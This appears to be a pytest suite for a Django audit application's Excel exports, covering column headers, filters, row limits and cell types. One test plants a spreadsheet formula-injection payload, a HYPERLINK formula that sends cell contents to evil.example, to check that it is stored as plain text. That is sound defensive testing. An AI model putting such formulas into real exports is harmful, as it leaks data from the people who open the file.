"""Excel downloads: every list, the summary table and the internal-control plan and round
as .xlsx, read back with openpyxl: the table's headers, every row the filters select (not
one page), text never a formula. (The board-by-board workbook is tested in
tests/test_firm_variants.py, the dashboard's in tests/views/test_dashboard.py.)"""

from datetime import UTC, date, datetime
from io import BytesIO

import pytest
from bs4 import BeautifulSoup
from django.urls import reverse
from django.utils.html import format_html
from openpyxl import load_workbook

from core.xlsx import xlsx_bytes
from internal_control.models import Control
from reviews.models import Recommendation
from reviews.summary import review_summary, table_rows
from tests.helpers import table_cells
from tests.internal_control.conftest import (
    SOCIAL,
    import_text,
    uppsala_plan,  # noqa: F401 (the fixture)
)

pytestmark = pytest.mark.django_db
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def workbook_rows(response) -> list[list]:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(BytesIO(response.content), read_only=True).active
    return [[cell for cell in row] for row in sheet.iter_rows(values_only=True)]


def page_headers(client, url: str) -> list[str]:
    soup = BeautifulSoup(client.get(url).content.decode(), "html.parser")
    return [th.get_text(" ", strip=True) for th in soup.select("table.data-table thead th")]


@pytest.mark.parametrize(
    "name", ["reviews:review-list", "reviews:audit-list", "reviews:recommendation-list"]
)
def test_each_list_downloads_its_columns_and_every_row(auditor_client, seed_review, name):
    url = reverse(name)
    rows = workbook_rows(auditor_client.get(url, {"format": "xlsx"}))
    assert rows[0] == page_headers(auditor_client, url)
    page = auditor_client.get(url).content.decode()
    assert 'href="?format=xlsx"' in page  # the link is on the page
    expected = {
        "reviews:review-list": 1,
        "reviews:audit-list": seed_review.organisation.audits.count(),
        "reviews:recommendation-list": Recommendation.objects.count(),  # 44: two pages
    }[name]
    assert len(rows) - 1 == expected


def test_the_download_keeps_the_filters_and_drops_the_page(auditor_client, seed_review, cyber):
    url = reverse("reviews:recommendation-list")

    def link(**params) -> str:
        page = auditor_client.get(url, params)
        assert page.status_code == 200
        soup = BeautifulSoup(page.content.decode(), "html.parser")
        return soup.select_one("p.download a")["href"]

    second_page = link(page=2, sort="-text")
    assert "sort=-text" in second_page and "page=" not in second_page
    everything = workbook_rows(auditor_client.get(url + second_page))
    assert len(everything) - 1 == Recommendation.objects.count()  # 44, not the 19 on page 2
    # In the page's order (Swedish collation, descending): the first rows of page 1.
    first_page = table_cells(auditor_client.get(url, {"sort": "-text"}).content.decode())
    shown = [row[2].removesuffix(" …")[:60] for row in first_page[1:4]]
    assert [row[2][:60] for row in everything[1:4]] == shown

    one_audit = workbook_rows(auditor_client.get(url + link(audit=cyber.pk)))
    # The whole texts, not the list's shortened ones.
    assert sorted(row[2] for row in one_audit[1:]) == sorted(
        cyber.recommendations.values_list("text", flat=True)
    )


def test_text_that_looks_like_a_formula_stays_text(auditor_client, seed_review, cyber):
    cyber.title = '=HYPERLINK("http://evil.example/?"&A1;"Klicka")'
    cyber.save()
    recommendation = cyber.recommendations.first()
    recommendation.text = "@SUM(1+1)\x0b med ett styrtecken"
    recommendation.save()
    response = auditor_client.get(reverse("reviews:audit-list"), {"format": "xlsx"})
    sheet = load_workbook(BytesIO(response.content)).active
    titles = [row[0] for row in sheet.iter_rows(min_row=2)]
    formula = next(cell for cell in titles if cell.value.startswith("=HYPERLINK"))
    assert formula.data_type == "s"  # a string: Excel shows it, never runs it
    rows = workbook_rows(
        auditor_client.get(reverse("reviews:recommendation-list"), {"format": "xlsx"})
    )
    assert "@SUM(1+1) med ett styrtecken" in [row[2] for row in rows]


def test_the_summary_downloads_as_the_csv_counts(auditor_client, seed_review):
    response = auditor_client.get(reverse("reviews:review-summary-xlsx", args=[seed_review.pk]))
    rows = workbook_rows(response)
    expected = table_rows(review_summary(seed_review))
    assert rows == [[str(c) if isinstance(c, str) else c for c in row] for row in expected]
    # ... and they are the numbers the page shows.
    page = auditor_client.get(reverse("reviews:review-summary", args=[seed_review.pk]))
    shown = table_cells(page.content.decode(), "Rekommendationer per granskning och status")
    assert rows[-1][0] == shown[-1][0]


@pytest.mark.parametrize("name", ["internal_control:plan-list", "internal_control:action-list"])
def test_the_internal_control_lists_download(administrator_client, name):
    import_text(SOCIAL.read_text(encoding="utf-8"))
    url = reverse(name)
    rows = workbook_rows(administrator_client.get(url, {"format": "xlsx"}))
    assert rows[0] == page_headers(administrator_client, url)
    assert len(rows) > 1
    assert all(not str(cell or "").startswith("<") for row in rows for cell in row)


def test_values_of_every_kind_fit_a_cell():
    """Numbers and dates stay what they are (Excel has no time zones: local time), HTML
    a cell renders is its text, and no text is ever a formula."""
    aware = datetime(2025, 6, 30, 22, 30, tzinfo=UTC)  # 00:30 on 1 July in Stockholm
    rows = [
        ["a", "b", "c", "d", "e"],
        [3, date(2025, 6, 30), aware, format_html("<span>{}</span>", "Försenad &"), "=1+1"],
    ]
    sheet = load_workbook(BytesIO(xlsx_bytes(rows, title="Test: [1]/*?"))).active
    assert sheet.title == "Test   1"
    values = [cell.value for cell in sheet[2]]
    assert values[:3] == [3, datetime(2025, 6, 30), datetime(2025, 7, 1, 0, 30)]
    assert values[3:] == ["Försenad &", "=1+1"]
    assert sheet["E2"].data_type == "s"


def sheets_of(response) -> dict[str, list[list]]:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    workbook = load_workbook(BytesIO(response.content), read_only=True)
    return {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in workbook
    }


def test_a_plan_and_its_follow_up_download_as_their_pages_show_them(
    administrator_client,
    uppsala_plan,  # noqa: F811
    django_assert_max_num_queries,
):
    """Seed 002: nine risks with a control each; the half-year follow-up found 7 "utan
    anmärkning" and 2 "med mindre anmärkning" (controls 3 and 9)."""
    url = reverse("internal_control:plan-detail", args=[uppsala_plan.pk])
    assert 'href="?format=xlsx" download' in administrator_client.get(url).content.decode()
    with django_assert_max_num_queries(12):
        plan = sheets_of(administrator_client.get(url, {"format": "xlsx"}))
    (rows,) = plan.values()
    controls = Control.objects.filter(risk__plan=uppsala_plan).select_related("risk__area")
    assert len(rows) - 1 == controls.count() == 9
    by_number = {row[8]: row for row in rows[1:]}
    for control in controls:
        row = by_number[f"{control.risk.number}.{control.position}"]
        assert row[0] == control.risk.area.name
        assert row[3] == control.risk.description and row[10] == control.description
    assert [row[2] for row in rows[1:3]] == ["ja", "ja"]  # risks 1 and 2 are mandatory

    (follow_up,) = uppsala_plan.rounds.all()
    url = reverse("internal_control:round-detail", args=[follow_up.pk])
    page = administrator_client.get(url).content.decode()
    assert 'href="?format=xlsx" download' in page
    with django_assert_max_num_queries(20):  # the round's and plan's prefetches, none per row
        found = sheets_of(administrator_client.get(url, {"format": "xlsx"}))
    assert list(found) == ["Bedömningar", "Kontrollmoment", "Åtgärder"]
    shown = table_cells(page, "Kontrollmoment per bedömning")
    assert [[str(cell) for cell in row] for row in found["Bedömningar"]] == shown
    levels = {row[3]: row[7] for row in found["Kontrollmoment"][1:]}
    assert len(levels) == 9
    assert [n for n, level in levels.items() if level == "med mindre anmärkning"] == ["3.1", "9.1"]
    planned = sum(row[9] for row in found["Kontrollmoment"][1:])
    assert len(found["Åtgärder"]) - 1 == planned


def test_a_list_too_long_for_one_download_says_to_narrow_it(
    auditor_client, seed_review, monkeypatch
):
    """A whole region's list took minutes and gigabytes as one file: beyond the limit the
    page says to filter, and a download asked for anyway is refused with that page."""
    monkeypatch.setattr("core.tables.XLSX_MAX_ROWS", 40)  # the seed has 44
    url = reverse("reviews:recommendation-list")
    page = auditor_client.get(url).content.decode()
    assert 'href="?format=xlsx"' not in page
    assert "högst 40 rader: filtrera listan för att ladda ner den" in page
    refused = auditor_client.get(url, {"format": "xlsx"})
    assert refused.status_code == 400
    assert refused["Content-Type"].startswith("text/html")
    notice = BeautifulSoup(refused.content.decode(), "html.parser").select_one("p.download")
    assert notice["role"] == "alert" and "högst 40 rader" in notice.get_text()
    # Narrowed to one audit, it downloads.
    audit = Recommendation.objects.order_by("pk").first().audit
    narrowed = workbook_rows(auditor_client.get(url, {"audit": audit.pk, "format": "xlsx"}))
    assert len(narrowed) - 1 == Recommendation.objects.filter(audit=audit).count()
